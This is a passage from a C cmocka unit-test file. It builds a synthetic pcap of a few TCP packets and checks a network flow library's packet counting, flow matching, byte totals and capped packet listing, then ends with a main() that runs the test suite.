	    pcap_open_dead_with_tstamp_precision(DLT_EN10MB, 65535, PCAP_TSTAMP_PRECISION_NANO);
	pcap_dumper_t *d = pcap_dump_open(pd, path);
	assert_non_null(d);
	const uint64_t T = 1700000000ULL * 1000000000ULL;
	struct {
		uint64_t ts;
		const char *s, *dd;
		uint16_t sp, dp;
		uint8_t fl;
		size_t len;
	} pk[] = {
		{ T + 0, "10.1.1.1", "10.2.2.2", 40000, 80, 2, 0 },
		{ T + 10, "10.2.2.2", "10.1.1.1", 80, 40000, 18, 0 },
		{ T + 20, "10.1.1.1", "10.2.2.2", 40000, 80, 24, 30 },
		{ T + 25, "192.0.2.1", "192.0.2.2", 1234, 443, 24, 100 },
		{ T + 30, "10.2.2.2", "10.1.1.1", 80, 40000, 24, 70 },
	};
	for (size_t i = 0; i < sizeof(pk) / sizeof(pk[0]); i++) {
		size_t len = pkt_tcp4(frame, pk[i].s, pk[i].sp, pk[i].dd, pk[i].dp, pk[i].fl,
		                      pk[i].len, 'x');
		struct pcap_pkthdr h = { .caplen = (bpf_u_int32)len, .len = (bpf_u_int32)len };
		h.ts.tv_sec = (time_t)(pk[i].ts / 1000000000ULL);
		h.ts.tv_usec = (suseconds_t)(pk[i].ts % 1000000000ULL);
		pcap_dump((u_char *)d, &h, frame);
	}
	pcap_dump_close(d);
	pcap_close(pd);

	struct ff_tuipkt *p;
	struct ff_err err = { 0 };
	assert_int_equal(ff_tuipkt_open(&p, path, &err), 0);
	int rc;
	while ((rc = ff_tuipkt_step(p, 2, &err)) > 0)
		;
	assert_int_equal(rc, 0);
	assert_int_equal(ff_tuipkt_npackets(p), 5);
	assert_int_equal(ff_tuipkt_nflows(p), 2);
	/* the server's socket, its ends the other way round */
	struct ff_flow_sock s = { .family = 4, .l4 = IPPROTO_TCP, .aport = 80, .bport = 40000 };
	inet_pton(AF_INET, "10.2.2.2", s.aip);
	inet_pton(AF_INET, "10.1.1.1", s.bip);
	s.first_ts = T + 15;
	s.last_ts = T + 40;
	size_t idx[4];
	assert_int_equal(ff_tuipkt_match(p, &s, idx, 4), 1);
	const struct ff_flow *f = ff_tuipkt_flow(p, idx[0]);
	assert_int_equal(f->cport, 40000);
	assert_int_equal(f->pkts, 4);
	assert_int_equal(f->bytes_c2s, 30);
	assert_int_equal(f->bytes_s2c, 70);
	/* its packets, at most 3 kept */
	struct ff_tuipkt_list *l;
	assert_int_equal(ff_tuipkt_list_open(&l, p, idx[0], 3, 1 << 20, &err), 0);
	while ((rc = ff_tuipkt_list_step(l, 1, &err)) > 0)
		;
	assert_int_equal(rc, 0);
	assert_int_equal(ff_tuipkt_list_count(l), 3);
	assert_int_equal(ff_tuipkt_list_more(l), 1);
	const struct ff_tuipkt_pkt *k = ff_tuipkt_list_at(l, 2);
	assert_int_equal(k->num, 3);
	assert_true(k->c2s);
	assert_int_equal(k->payload_len, 30);
	assert_int_equal(k->payload_off, 54);
	assert_int_equal(k->data[54], 'x');
	assert_false(ff_tuipkt_list_at(l, 1)->c2s);
	ff_tuipkt_list_free(l);
	/* a socket an hour later matches nothing */
	s.first_ts += 3600 * 1000000000ULL;
	s.last_ts += 3600 * 1000000000ULL;
	assert_int_equal(ff_tuipkt_match(p, &s, idx, 4), 0);
	ff_tuipkt_close(p);
	unlink(path);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_counters),      cmocka_unit_test(test_windows_merge),
		cmocka_unit_test(test_tree_ancestry), cmocka_unit_test(test_alerts_and_match),
		cmocka_unit_test(test_filter),        cmocka_unit_test(test_sample_story),
		cmocka_unit_test(test_live_slide),    cmocka_unit_test(test_live_alerts),
		cmocka_unit_test(test_ring),          cmocka_unit_test(test_packets),
		cmocka_unit_test(test_live_budget),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
